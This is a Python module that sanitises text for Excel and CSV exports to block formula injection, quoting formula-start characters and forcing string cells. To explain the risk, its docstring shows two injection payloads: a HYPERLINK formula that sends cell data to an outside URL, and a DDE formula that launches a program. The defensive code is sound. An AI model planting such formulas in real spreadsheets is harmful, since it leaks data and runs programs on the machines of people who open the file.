"""Text written to a spreadsheet (an Excel workbook or a CSV file) is shown as text, never run as a formula.

A name or a note typed as ``=HYPERLINK("http://…?x="&A1,"click")`` or ``=cmd|' /C calc'!A0`` would otherwise
become a live formula when the office opens an export: it could send the sheet's figures away or start a
program. In a workbook every text cell is stored as a string; in a CSV file a text field that begins with a
character a spreadsheet reads as the start of a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return)
gets a single quote in front, as OWASP advises. Numbers stay numbers: a score of -1.5 is not text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters an .xlsx cannot hold (XML 1.0 forbids them): openpyxl refuses the whole workbook for one of them.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_field(value: Any) -> Any:
    """A value ready for ``csv.writer``: text that could start a formula quoted with ``'``, numbers, dates and
    empty values as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_field(value) for value in values]


def workbook_text(text: str) -> str:
    """Text an .xlsx file can hold: the few control characters XML cannot carry are left out."""
    return _NOT_IN_XML.sub("", text)


def set_cell(cell: Any, value: Any) -> None:
    """Put ``value`` in an openpyxl cell: text always as a string (openpyxl would make ``=…`` a formula),
    numbers, dates and times as themselves."""
    if isinstance(value, str):
        cell.value = workbook_text(value)
        cell.data_type = "s"
    else:
        cell.value = value


__all__ = ["FORMULA_STARTS", "csv_field", "csv_row", "set_cell", "workbook_text"]
